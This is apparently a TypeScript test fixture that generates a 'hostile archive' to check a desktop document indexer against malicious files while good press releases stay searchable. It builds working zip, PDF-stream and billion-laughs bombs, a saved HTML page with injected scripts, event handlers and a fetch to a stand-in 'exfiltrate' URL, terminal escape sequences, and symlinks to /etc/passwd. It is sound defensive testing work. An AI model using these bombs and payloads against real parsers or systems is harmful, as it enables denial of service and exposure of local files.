import { spawnSync } from 'node:child_process';
import { closeSync, ftruncateSync, mkdirSync, openSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { zipSync } from 'fflate';

/**
 * A hostile archive, made by the tests: every kind of file that has hurt a desktop indexer, beside
 * a few good releases that must stay searchable. `entries` says what each one is.
 */
export interface HostileArchive {
  dir: string;
  /** Good releases and a word each one alone holds. */
  good: { file: string; word: string }[];
  /** Every entry that is not a good release, by the name it was written under. */
  hostile: string[];
}

const encoder = new TextEncoder();

/** A PDF whose page content is a Flate stream that inflates to `megabytes` MB. */
export function pdfStreamBomb(megabytes: number): Uint8Array {
  const stream = deflateSync(Buffer.alloc(megabytes * 1048576, 0x20), { level: 9 });
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>',
  ];
  const parts: Buffer[] = [Buffer.from('%PDF-1.4\n')];
  const offsets: number[] = [];
  let at = parts[0]!.length;
  const push = (b: Buffer): void => {
    parts.push(b);
    at += b.length;
  };
  objects.forEach((o, i) => {
    offsets.push(at);
    push(Buffer.from(`${i + 1} 0 obj\n${o}\nendobj\n`));
  });
  offsets.push(at);
  push(Buffer.from(`4 0 obj\n<< /Length ${stream.length} /Filter /FlateDecode >>\nstream\n`));
  push(stream);
  push(Buffer.from('\nendstream\nendobj\n'));
  const xref = at;
  push(Buffer.from(`xref\n0 5\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`));
  return Buffer.concat(parts);
}

/** A Word file: 200 MB of zeros in its document part, declared honestly. */
export function zipBomb(): Uint8Array {
  return zipSync({ '[Content_Types].xml': encoder.encode('<Types/>'), 'word/document.xml': [new Uint8Array(200 * 1024 * 1024), { level: 9 }] });
}

/** The same, with both directories declaring the part 1,000 bytes long. */
export function hiddenZipBomb(): Uint8Array {
  const zip = zipBomb();
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  const name = (at: number, length: number): string => new TextDecoder().decode(zip.subarray(at, at + length));
  for (let i = 0; i + 4 <= zip.length; i++) {
    const sig = view.getUint32(i, true);
    if (sig === 0x02014b50 && name(i + 46, view.getUint16(i + 28, true)) === 'word/document.xml') view.setUint32(i + 24, 1000, true);
    if (sig === 0x04034b50 && name(i + 30, view.getUint16(i + 26, true)) === 'word/document.xml') view.setUint32(i + 22, 1000, true);
  }
  return zip;
}

/** A Word file whose document declares entities that expand to billions of characters. */
function billionLaughs(): Uint8Array {
  const entities = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`)].join('');
  const document = `<?xml version="1.0"?><!DOCTYPE w:document [${entities}]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>`;
  return zipSync({ '[Content_Types].xml': encoder.encode('<Types/>'), 'word/document.xml': encoder.encode(document) });
}

/** A saved page that tries everything a page can try, around a real release. */
export const HOSTILE_PAGE = `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
<meta http-equiv="refresh" content="0; url=http://example.com/phish">
<link rel="stylesheet" href="http://example.com/remote.css"><style>@import url("http://example.com/imported.css"); body{background:url(http://example.com/bg.png)}</style>
<script>window.__pwned = 'script tag'; fetch('http://example.com/exfiltrate');</script>
<title>Hostile page</title></head><body onload="window.__pwned='onload'">
<main><article><h1>Switzerland and Norway sign a fisheries accord</h1>
<p>Bern, 12.03.2021 - The Federal Council approved an accord with Norway on fisheries research, the quokkas of policy.</p>
<p><img src="http://example.com/track.png" onerror="window.__pwned='onerror'"> The minister called it <a href="javascript:window.__pwned='link'">a fair deal</a> for both countries.</p>
<svg onload="window.__pwned='svg'"><script>window.__pwned='svg script'</script></svg>
<iframe src="http://example.com/frame"></iframe><object data="http://example.com/x.swf"></object>
<p>Both delegations met in Oslo <b onmouseover="window.__pwned='hover'">twice</b> this year.</p>
<form action="http://example.com/post"><input name="q"></form>
</article></main></body></html>`;

export function makeHostileArchive(dir: string): HostileArchive {
  mkdirSync(dir, { recursive: true });
  const write = (name: string, data: string | Uint8Array): string => {
    writeFileSync(join(dir, name), data);
    return name;
  };
  const good = [
    { file: write('good-release.txt', 'Accord with Japan on research\n\n  • 09 Oct. 2019 -\n\nBern - Switzerland and Japan signed an accord on wombat research today.\n'), word: 'wombat' },
    { file: write('good-release.md', '---\ntitle: Visit to Canada\ndate: 2020-05-04\n---\n\nThe minister visited Ottawa to discuss platypus conservation with Canada.\n'), word: 'platypus' },
    { file: write('hostile-page.html', HOSTILE_PAGE), word: 'quokkas' },
  ];
  const hostile = [
    write('zip-bomb.docx', zipBomb()),
    write('hidden-zip-bomb.docx', hiddenZipBomb()),
    write('billion-laughs.docx', billionLaughs()),
    write('pdf-stream-bomb.pdf', pdfStreamBomb(300)),
    write('emphasis.md', `# Emphasis\n\n${'**a'.repeat(130_000)}\n`),
    write('nested-list.md', Array.from({ length: 3000 }, (_, i) => `${'  '.repeat(i)}- item`).join('\n')),
    write('deep-nesting.html', `<html><body>${'<div>'.repeat(200_000)}deep${'</div>'.repeat(200_000)}</body></html>`),
    write('quoted-strings.txt', `Quotes\n\n${Array.from({ length: 60_000 }, (_, i) => `“This is quoted sentence number ${i} of many,” said Person${i} Name. `).join('')}\n`),
    write('binary.txt', Buffer.from([0, 1, 2, 3, 0xff, 0, 0, 0xfe])),
    // Terminal escapes and a right-to-left override in a title, in an otherwise ordinary release.
    write('control-title.txt', `\u001b]0;pwned\u0007\u001b[2J\u202eTitle with escapes\n\n  • 01 Jan. 2020 -\n\n${'Bern - The Federal Council met the delegation of Austria to discuss cooperation on transport. '.repeat(8)}\n`),
  ];
  // A sparse file of 3 GB: refused from its size, never read.
  const sparse = openSync(join(dir, 'sparse-giant.txt'), 'w');
  ftruncateSync(sparse, 3 * 1024 * 1024 * 1024);
  closeSync(sparse);
  hostile.push('sparse-giant.txt');
  if (spawnSync('mkfifo', [join(dir, 'pipe.txt')]).status === 0) hostile.push('pipe.txt');
  symlinkSync('/etc/passwd', join(dir, 'passwd.txt'));
  symlinkSync('/etc', join(dir, 'etc-folder'));
  hostile.push('passwd.txt', 'etc-folder');
  hostile.push(write('.hidden-release.txt', 'Hidden\n\nA hidden release.\n'));
  writeFileSync(Buffer.concat([Buffer.from(join(dir, 'bad-name-')), Buffer.from([0xff, 0xfe]), Buffer.from('.txt')]), 'A file whose name is not UTF-8.\n');
  hostile.push('bad-name-');
  return { dir, good, hostile };
}
